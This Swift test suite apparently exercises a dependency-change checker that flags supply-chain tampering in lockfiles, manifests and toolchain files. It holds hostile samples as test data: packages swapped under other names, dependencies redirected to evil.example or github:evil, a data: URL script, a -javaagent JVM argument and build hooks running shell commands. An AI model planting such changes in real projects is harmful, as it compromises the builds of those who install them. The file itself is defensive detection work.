import DependencyChecks
import Testing

/// Kinds of attack that were held and shown, but of which nothing was said; and what was said too loudly.
@Suite("Attacks that were quiet")
struct QuietAttackTests {
  private typealias Row = PairedAttackTests.Row

  private static func archive(_ name: String, _ version: String) -> String {
    "https://registry.npmjs.org/\(name)/-/\(name)-\(version).tgz"
  }

  private static func classic(_ entries: (header: String, name: String)...) -> String {
    "# yarn lockfile v1\n\n\n"
      + entries.map { header, name in
        """
        \(header):
          version "2.1.3"
          resolved "\(archive(name, "2.1.3"))"
          integrity \(Judged.sha512(name == "ms" ? "A" : "B"))

        """
      }.joined(separator: "\n")
  }

  private static func berry(_ entries: (header: String, name: String)...) -> String {
    "__metadata:\n  version: 8\n  cacheKey: 10c0\n"
      + entries.map { header, name in
        """

        "\(header)":
          version: 2.1.3
          resolution: "\(name)@npm:2.1.3"
          checksum: 10c0/\(Judged.hex(name == "ms" ? "a" : "b", 64))
          languageName: node
          linkType: hard

        """
      }.joined()
  }

  private static func npm(_ names: String...) -> String {
    Judged.npm(names.map { ($0, "4.17.21", archive($0, "4.17.21"), Judged.sha512("A")) })
  }

  private static func pnpm(_ wanted: String, _ packages: String...) -> String {
    """
    lockfileVersion: '9.0'

    importers:

      .:
        dependencies:
    \(wanted)

    packages:
    \(packages.map { "\n  \($0):\n    resolution: {integrity: \(Judged.sha512("A"))}\n" }.joined())
    """
  }

  private static func pnpmWish(_ name: String, _ version: String) -> String {
    "      \(name):\n        specifier: 2.1.3\n        version: \(version)"
  }

  static let locks: [PairedAttackTests.Row] = [
    Row(
      "yarn 1: another package's name in the header of an entry", "yarn.lock",
      classic(("ms@^2.1.1", "ms"), ("lodash@^2.0.0", "lodash")),
      classic(("ms@^2.1.1, lodash@^2.0.0", "ms")), "218 high: lodash   is really ms 2.1.3"),
    Row(
      "yarn 1: the same behind an alias that was there", "yarn.lock",
      classic(("\"other@npm:ms@^2.1.1\"", "ms"), ("lodash@^2.0.0", "lodash")),
      classic(("\"other@npm:ms@^2.1.1\", lodash@^2.0.0", "ms")), "218 high: lodash   is really ms"),
    Row(
      "yarn: another package's name in the header of an entry", "yarn.lock",
      berry(("ms@npm:^2.1.1", "ms"), ("lodash@npm:^2.0.0", "lodash")),
      berry(("ms@npm:^2.1.1, lodash@npm:^2.0.0", "ms")), "218 high: lodash   is really ms"),
    Row(
      "yarn: the same behind an alias that was there", "yarn.lock",
      berry(("other@npm:ms@^2.1.1", "ms"), ("lodash@npm:^2.0.0", "lodash")),
      berry(("other@npm:ms@^2.1.1, lodash@npm:^2.0.0", "ms")), "218 high: lodash   is really ms"),
    Row(
      "npm: a name in other letter case", "package-lock.json", npm("lodash"), npm("Lodash"),
      "226 high: Lodash 4.17.21   is the case of its letters away from lodash"),
    Row(
      "npm: both names side by side", "package-lock.json", npm("acme-tool"),
      npm("acme-tool", "ACME-TOOL"),
      "226 high: ACME-TOOL 4.17.21   is the case of its letters away from acme-tool"),
    Row(
      "pnpm: a package that is there already, under another name", "pnpm-lock.yaml",
      pnpm(pnpmWish("evil", "2.1.3") + "\n" + pnpmWish("ms", "2.1.3"), "evil@2.1.3", "ms@2.1.3"),
      pnpm(pnpmWish("evil", "2.1.3") + "\n" + pnpmWish("ms", "evil@2.1.3"), "evil@2.1.3"),
      "218 high: ms   is really evil"),
    Row(
      "pnpm: a package that says that it is another", "pnpm-lock.yaml",
      pnpm(pnpmWish("ms", "2.1.3"), "ms@2.1.3"),
      pnpm(pnpmWish("ms", "2.1.3"), "ms@2.1.3").replacing(
        "    resolution", with: "    name: evil\n    resolution"), "218 high: ms   is really evil"),
    Row(
      "pnpm: a document behind the project's", "pnpm-lock.yaml",
      pnpm(pnpmWish("ms", "2.1.3"), "ms@2.1.3"),
      pnpm(pnpmWish("ms", "2.1.3"), "ms@2.1.3") + "\n---\nlockfileVersion: '9.0'\n", "opaque"),
    Row(
      "pnpm: a package of settings, whose hooks run", "pnpm-lock.yaml",
      pnpm(pnpmWish("ms", "2.1.3"), "ms@2.1.3"),
      "---\n"
        + pnpm(pnpmWish("evil", "2.1.3"), "evil@2.1.3").replacing(
          "    dependencies:", with: "    configDependencies:") + "\n---\n"
        + pnpm(pnpmWish("ms", "2.1.3"), "ms@2.1.3"), "224 high: evil 2.1.3"),
  ]

  private static let catalogs = [
    ("\"npm:evil@1.0.0\"", "218 high: ms   is really evil"),
    ("\"https://evil.example/ms.tgz\"", "214 high: ms"),
    ("\"github:evil/ms#main\"", "214 high: ms"),
  ]

  static let wishes: [PairedAttackTests.Row] =
    catalogs.flatMap { value, expected in
      [
        Row(
          "yarn: a catalog, \(value)", ".yarnrc.yml", "catalog:\n  ms: ^2.1.3\n",
          "catalog:\n  ms: \(value)\n", expected),
        Row(
          "yarn: a named catalog, \(value)", ".yarnrc.yml",
          "catalogs:\n  a:\n    ms: ^2.1.3\n  b:\n    ms: ^1.0.0\n",
          "catalogs:\n  a:\n    ms: ^2.1.3\n  b:\n    ms: \(value)\n", expected),
        Row(
          "pnpm: a named catalog, \(value)", "pnpm-workspace.yaml",
          "catalogs:\n  a:\n    ms: ^2.1.3\n", "catalogs:\n  a:\n    ms: \(value)\n", expected),
        Row(
          "bun: a catalog, \(value)", "package.json", "{\"catalog\": {\"ms\": \"^2.1.3\"}}\n",
          "{\"catalog\": {\"ms\": \(value)}}\n", expected),
        Row(
          "bun: a named catalog of a workspace, \(value)", "package.json",
          "{\"workspaces\": {\"catalogs\": {\"a\": {\"ms\": \"^2.1.3\"}}}}\n",
          "{\"workspaces\": {\"catalogs\": {\"a\": {\"ms\": \(value)}}}}\n", expected),
      ]
    }
    + [
      ("exec:./e.js", "214 high"), ("patch:ms@npm%3A2.1.3#./x.patch", "214 high"),
      ("C:\\\\evil", "214 high"), ("/srv/ms", "214 high"), (".\\\\ms", "214 high"),
      ("ms.tgz", "214 high"), ("FILE:../../ms", "214 high"), ("NPM:evil@1", "218 high"),
      ("HTTPS://evil.example/ms.tgz", "214 high"), ("GitHub:evil/ms", "214 high"),
    ].map { value, expected in
      Row(
        "npm: \(value)", "package.json", "{\"dependencies\": {\"ms\": \"^2.1.3\"}}\n",
        "{\"dependencies\": {\"ms\": \"\(value)\"}}\n", expected)
    }
    + [
      Row(
        "deno: another package under a name", "deno.json",
        "{\"imports\": {\"ms\": \"npm:ms@2\"}}\n",
        "{\"imports\": {\"ms\": \"npm:evil@2\"}}\n", "218 high: ms   is really evil"),
      Row(
        "deno: a program in the place of an address", "deno.json",
        "{\"imports\": {\"a\": \"npm:a@2\"}}\n",
        "{\"imports\": {\"a\": \"npm:a@2\", \"ms\": \"data:text/javascript,alert(1)\"}}\n",
        "215 high"),
      Row(
        "deno: an address in a scope", "deno.json", "{\"imports\": {\"a\": \"npm:a@2\"}}\n",
        "{\"imports\": {\"a\": \"npm:a@2\"}, \"scopes\": {\"./x/\": {\"a\": \"https://evil.example/a.ts\"}}}\n",
        "215 high"),
      Row(
        "deno: what JSX imports", "deno.json",
        "{\"compilerOptions\": {\"jsxImportSource\": \"npm:preact\"}}\n",
        "{\"compilerOptions\": {\"jsxImportSource\": \"npm:evil\"}}\n", "218 high"),
      Row(
        "uv: what builds need, by an address", "pyproject.toml", "[project]\nname = \"x\"\n",
        "[project]\nname = \"x\"\n[tool.uv]\nbuild-constraint-dependencies = [\"a @ https://evil.example/a.whl\"]\n",
        "234 high"),
      Row(
        "Maven: a parent", "pom.xml", "<project>\n<version>1</version>\n</project>\n",
        "<project>\n<version>1</version>\n<parent><groupId>e</groupId><artifactId>p</artifactId><version>1</version></parent>\n</project>\n",
        "224 high"),
      Row(
        "Maven: a program of the tests' JVM", "pom.xml",
        "<project>\n<properties>\n<a>1</a>\n</properties>\n</project>\n",
        "<project>\n<properties>\n<a>1</a>\n<argLine>-javaagent:e.jar</argLine>\n</properties>\n</project>\n",
        "224 high"),
    ]
    + [
      ("package-lock=false", ".npmrc", "234 high"),
      (
        "systemProp.org.gradle.internal.plugins.portal.url.override=https://evil.example",
        "gradle.properties", "234 high"
      ),
      ("systemProp.gradle.wrapperUser=x", "gradle.properties", "234 high"),
      ("org.gradle.java.installations.paths=evil", "gradle.properties", "224 high"),
    ].map { line, path, expected in
      Row("\(path): \(line)", path, "a=b\n", "a=b\n\(line)\n", expected)
    }
    + [
      ("semantic_release", "build_command = \"sh x\""),
      ("commitizen", "pre_bump_hooks = [\"sh x\"]"),
      ("bumpversion", "pre_commit_hooks = [\"sh x\"]"),
    ].map { tool, line in
      Row(
        "Python: \(line)", "pyproject.toml", "[tool.\(tool)]\nversion = \"1\"\n",
        "[tool.\(tool)]\nversion = \"1\"\n\(line)\n", "224 high")
    }

  static let tools: [PairedAttackTests.Row] = [
    Row(
      "an interpreter of the repository", ".python-version", "3.12\n", "./bin/python\n", "234 high"),
    Row("a fork of Bazel", ".bazelversion", "7.0.0\n", "evil/7.0.0\n", "234 high"),
    Row(
      "a tool from a folder", ".tool-versions", "nodejs 20.0.0\n", "nodejs path:./x\n", "234 high"),
    Row(
      "mise: a tool from elsewhere", "mise.toml", "[tools]\nnode = \"20\"\n",
      "[tools]\nnode = \"path:./x\"\n", "234 high"),
    Row(
      "Rust: a toolchain of another name", "rust-toolchain.toml",
      "[toolchain]\nchannel = \"1.75.0\"\n", "[toolchain]\nchannel = \"evil\"\n", "234 high"),
    Row(
      "Go: a toolchain that is no release", "go.mod", "module x\n\ntoolchain go1.22.3\n",
      "module x\n\ntoolchain go1.22.3-evil\n", "224 high: toolchain: go1.22.3 -> go1.22.3-evil"),
    Row(
      "a package manager's digest at the same release", "package.json",
      "{\"packageManager\": \"pnpm@9.0.0+sha512.aa\"}\n",
      "{\"packageManager\": \"pnpm@9.0.0+sha512.bb\"}\n", "224 high"),
    Row(
      "a package manager's digest is gone", "package.json",
      "{\"packageManager\": \"pnpm@9.0.0+sha512.aa\"}\n",
      "{\"packageManager\": \"pnpm@9.1.0\"}\n", "224 high"),
    Row(
      "a package manager's digest is weaker", "package.json",
      "{\"packageManager\": \"pnpm@9.0.0+sha512.aa\"}\n",
      "{\"packageManager\": \"pnpm@9.1.0+sha1.bb\"}\n", "224 high"),
    Row(
      "another package manager", "package.json", "{\"packageManager\": \"pnpm@9.0.0\"}\n",
      "{\"packageManager\": \"pnpn@9.0.0\"}\n", "224 high"),
  ]

  @Test("a lock that installs one package as another, or without pins", arguments: locks)
  func entries(_ row: PairedAttackTests.Row) throws { try PairedAttackTests().check(row) }

  @Test("a manifest that asks for something elsewhere", arguments: wishes)
  func manifests(_ row: PairedAttackTests.Row) throws { try PairedAttackTests().check(row) }

  @Test("a file of versions that names none", arguments: tools)
  func versions(_ row: PairedAttackTests.Row) throws { try PairedAttackTests().check(row) }

  @Test(
    "another plain release of a tool is at most a notice",
    arguments: [
      (".nvmrc", "20.1.0\n", "20.2.0\n"), ("runtime.txt", "python-3.11.4\n", "python-3.12.0\n"),
      (".mill-version", "0.11.6\n", "0.11.7\n"),
      ("mise.toml", "[tools]\nnode = \"20.1.0\"\n", "[tools]\nnode = \"22\"\n"),
      (
        "global.json", "{\"sdk\": {\"version\": \"8.0.100\"}}\n",
        "{\"sdk\": {\"version\": \"8.0.101\"}}\n"
      ),
      (
        "rust-toolchain.toml", "[toolchain]\nchannel = \"1.75.0\"\n",
        "[toolchain]\nchannel = \"1.76.0\"\n"
      ),
      ("rust-toolchain", "1.75.0\n", "1.76.0\n"),
      ("go.mod", "module x\n\ntoolchain go1.22.3\n", "module x\n\ntoolchain go1.22.4\n"),
      (
        "package.json", "{\"packageManager\": \"pnpm@9.0.0\"}\n",
        "{\"packageManager\": \"pnpm@9.1.0\"}\n"
      ),
      (
        "pyproject.toml", "[build-system]\nrequires = [\"hatchling>=1\"]\n",
        "[build-system]\nrequires = [\"hatchling>=1.20\"]\n"
      ),
      (".npmrc", "a=b\n", "a=b\nbefore=2020-01-01\nnode-linker=hoisted\n"),
      (".yarnrc.yml", "catalog:\n  ms: ^2.1.3\n", "catalog:\n  ms: ^2.1.4\n"),
    ])
  func releases(_ path: String, _ old: String, _ new: String) throws {
    let found = try Judged.findings(path, old, new)
    #expect(!found.contains { $0.contains(" high") || $0.contains(" critical") }, "\(found)")
  }

  @Test("the digest of another file of a module is no other digest of the module")
  func artifacts() throws {
    func metadata(_ artifacts: (String, Character)...) -> String {
      "<verification-metadata>\n<components>\n<component group=\"g\" name=\"a\" version=\"1\">\n"
        + artifacts.map { name, digit in
          "<artifact name=\"\(name)\"><sha256 value=\"\(Judged.hex(digit))\"/></artifact>\n"
        }.joined() + "</component>\n</components>\n</verification-metadata>\n"
    }
    func found(_ new: String) throws -> [String] {
      try Judged.findings(
        "gradle/verification-metadata.xml", metadata(("a-1.jar", "a")), new
      ).filter { $0.hasPrefix("211") }
    }
    #expect(try found(metadata(("a-1.jar", "a"), ("a-1.pom", "b"))) == [])
    #expect(try found(metadata(("a-1.jar", "b"))).count == 1)
    #expect(try found(metadata(("a-1.jar", "b"), ("a-1.pom", "a"))).count == 1)
  }
}
